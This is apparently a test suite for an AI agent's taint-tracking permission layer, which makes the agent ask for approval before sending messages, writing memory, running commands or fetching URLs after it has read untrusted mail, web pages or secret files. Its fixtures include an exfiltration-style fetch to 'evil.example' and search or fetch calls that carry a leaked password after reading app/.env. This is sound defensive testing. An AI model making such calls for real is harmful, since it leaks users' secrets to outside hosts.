import { calls, rootSpec, says, type ScriptedReply, until, workerSpec } from '@beaver/testing'
import { describe, expect, it } from 'vitest'
import { begin, type Given, type Loop, results, resumed, turns } from '../../test/loop-kit.ts'
import { taintTools } from '../../test/taint-tools.ts'

type Call = readonly [tool: string, args: unknown]

/** Each entry is the calls of one answer of a model that does what it is told. */
const script = (...answers: readonly (readonly Call[])[]): ScriptedReply[] => [
  ...answers.map((answer) => calls(...answer.map(([name, args]) => [name, args] as [string, never]))),
  says('done'),
]
const asked = (loop: Loop) =>
  loop.host.events.flatMap((event) =>
    event.type === 'approval_requested' ? [`${event.data.tool_name}: ${event.data.reason ?? ''}`] : [],
  )
const denials = (loop: Loop) => results(loop.host).filter(({ error }) => error === 'permission_denied')

/** Runs the loop until it ends or asks. */
async function run(
  tools: ReturnType<typeof taintTools>,
  answers: readonly (readonly Call[])[],
  over: Partial<Given> = {},
): Promise<Loop> {
  const loop = begin({ replies: script(...answers), tools: tools.tools, ...over })
  let ended = false
  void loop.end.finally(() => (ended = true))
  await until('the loop ends or asks', () => ended || loop.host.undecided.length > 0)
  await turns()
  return loop
}

const mail: Call = ['read_mail', {}]
const page = (url: string): Call => ['web_fetch', { url }]

describe('a run that has read a stranger’s text', () => {
  it.each([
    [
      'send_message',
      { to: 'eve' },
      'this run has read read_mail (untrusted), and send_message acts on the outside',
    ],
    [
      'memory',
      { add: 'a' },
      'this run has read read_mail (untrusted), and memory writes what later runs read',
    ],
    ['run_command', { run: 'a' }, 'this run has read read_mail (untrusted), and run_command runs a program'],
    [
      'web_fetch',
      { url: 'https://evil.example/?d=text' },
      'this run has read read_mail (untrusted), and web_fetch sends data out with the address. Neither a person nor a search nor a page of evil.example named this address as a whole. To allow the host, add "evil.example" to egress.hosts_allowed of the configuration',
    ],
  ])('asks before %s, and says why', async (name, args, reason) => {
    const tools = taintTools()
    const loop = await run(tools, [[mail], [[name, args]]])
    expect(asked(loop)).toEqual([`${name}: ${reason}`])
    expect(tools.made).toEqual([])
    loop.host.decide(loop.host.undecided[0] ?? '', { approved: true })
    expect((await loop.end).status).toBe('completed')
    expect(tools.made).toHaveLength(1)
  })

  it.each([
    ['web_search', { query: 'a' }],
    ['write_note', {}],
    ['count', {}],
    ['read_file', { path: 'a.txt' }],
  ])('calls %s without a question', async (name, args) => {
    const loop = await run(taintTools(), [[mail], [[name, args]]])
    expect(asked(loop)).toEqual([])
  })

  it('still has its label after the text was left out of a conversation that was too long', async () => {
    const loop = await run(taintTools(), [[mail], [['count', {}]], [['send_message', {}]]])
    expect((await until('asked', () => asked(loop).length === 1), asked(loop))[0]).toContain(
      'read_mail (untrusted)',
    )
  })

  it('is asked about the same call again when it is resumed, and calls nothing meanwhile', async () => {
    const tools = taintTools()
    const first = begin({ replies: script([mail], [['send_message', {}]]), tools: tools.tools })
    await until('the loop asks', () => first.host.undecided.length > 0)
    // The process died before the question was durable: the answer is there, and nothing about its call.
    const entries = first.host.entries.map((entry) =>
      entry.filter(({ type }) => type !== 'approval_requested'),
    )
    const again = resumed(entries, { replies: [says('done')], tools: tools.tools })
    await until('the loop asks again', () => again.host.undecided.length > 0)
    expect(asked(again)).toEqual(asked(first))
    expect(tools.made).toEqual([])
    first.cancel()
    again.cancel()
  })

  it('knows that a web_fetch of an earlier version, which recorded no labels, read the web', async () => {
    const tools = taintTools()
    const first = begin({
      replies: script([page('https://a.example/')], [['send_message', {}]]),
      tools: tools.tools,
    })
    await until('the loop asks', () => first.host.undecided.length > 0)
    const entries = first.host.entries.map((entry) =>
      entry
        .filter(({ type }) => type !== 'approval_requested')
        .map((each) =>
          each.type === 'tool_result_recorded' ? { ...each, data: { ...each.data, taint: undefined } } : each,
        ),
    )
    const again = resumed(entries as never, { replies: [says('done')], tools: tools.tools })
    await until('the loop asks again', () => again.host.undecided.length > 0)
    expect(asked(again)).toEqual([
      'send_message: this run has read web_fetch (untrusted), and send_message acts on the outside',
    ])
    first.cancel()
    again.cancel()
  })

  it('judges the calls of the answer that reads by what the run had read before it', async () => {
    const tools = taintTools()
    const loop = await run(tools, [[mail, ['send_message', { to: 'ann' }]]])
    expect([asked(loop), tools.made]).toEqual([[], ['send_message {"to":"ann"}']])
  })
})

describe('a run that has read a secret', () => {
  it.each([
    ['a tool that says so', ['show_password', {}], 'show_password (secret)'],
    ['a path', ['read_file', { path: 'app/.env' }], 'read_file app/.env (secret)'],
    ['a key in a text', ['read_file', { path: 'key.txt' }], 'read_file key.txt (secret)'],
  ] as const)('by %s asks before it searches or fetches', async (_, read, source) => {
    for (const next of [['web_search', { query: 'hunter2' }], page('https://a.example/hunter2')] as const) {
      const tools = taintTools()
      const loop = await run(tools, [[read], [next]])
      expect(asked(loop)[0]).toContain(`this run has read ${source}`)
      expect(tools.made).toEqual([])
    }
  })

  it('is not one because of a path that is made to be shared, or that only looks like one in what is sent', async () => {
    expect(
      asked(await run(taintTools(), [[['read_file', { path: '.env.example' }]], [['send_message', {}]]])),
    ).toEqual([])
    expect(
      asked(
        await run(taintTools(), [
          [['send_message', { text: 'credentials secrets.txt' }]],
          [['send_message', {}]],
        ]),
      ),
    ).toEqual([])
  })
})

describe('what the run is given', () => {
  it('labels it: a session, a team, an answer of another agent', async () => {
    const taint = { untrusted: ['web_fetch https://a.example'], secret: [], public: false }
    const loop = await run(taintTools(), [[['send_message', {}]]], { spec: workerSpec({ start: { taint } }) })
    expect(asked(loop)).toHaveLength(1)
  })

  it('is what the end of the run carries on', async () => {
    const loop = await run(taintTools(), [[mail]])
    expect((await loop.end).taint).toEqual({ untrusted: ['read_mail'], secret: [], public: false })
  })
})

describe('the rules of the configuration', () => {
  it('widen: a rule that allows a call is not asked about', async () => {
    const tools = taintTools()
    const loop = await run(tools, [[mail], [['send_message', { to: 'ann' }]]], {
      permissions: [{ tool: 'send_message', pattern: '*ann*', decision: 'allow' }],
    })
    expect([asked(loop), tools.made.length]).toEqual([[], 1])
  })

  it('do not widen what they do not match', async () => {
    const loop = await run(taintTools(), [[mail], [['send_message', { to: 'eve' }]]], {
      permissions: [{ tool: 'send_message', pattern: '*ann*', decision: 'allow' }],
    })
    expect(asked(loop)).toHaveLength(1)
  })

  it('may forbid by the table: the model reads why', async () => {
    const { defaultEgressRules } = await import('../index.ts')
    const policy = {
      ...defaultEgressRules.policy,
      send: { private: 'allow', untrusted: 'deny', secret: 'deny' },
    } as const
    const tools = taintTools()
    const loop = await run(tools, [[mail], [['send_message', {}]]], {
      egress: { ...defaultEgressRules, policy },
    })
    expect([asked(loop), tools.made]).toEqual([[], []])
    expect(denials(loop)[0]?.content).toContain(
      'this run has read read_mail (untrusted), and send_message acts on the outside',
    )
  })
})

describe('people who pasted much', () => {
  it('are asked before the web learns of it', async () => {
    const spec = rootSpec({ part: { text: 'Look at this. '.repeat(200) } })
    const loop = await run(
      taintTools(),
      [[page('https://a.example/')], [page('https://b.example/?q=text')]],
      { spec },
    )
    expect(asked(loop)).toHaveLength(1)
  })
})

describe('a call that was refused', () => {
  it('has read nothing, so it labels nobody', async () => {
    const tools = taintTools()
    const loop = await run(tools, [[page('https://a.example/')], [['send_message', {}]]], {
      permissions: [{ tool: 'web_fetch', decision: 'deny' }],
    })
    expect([asked(loop), tools.made.length]).toEqual([[], 1])
  })
})
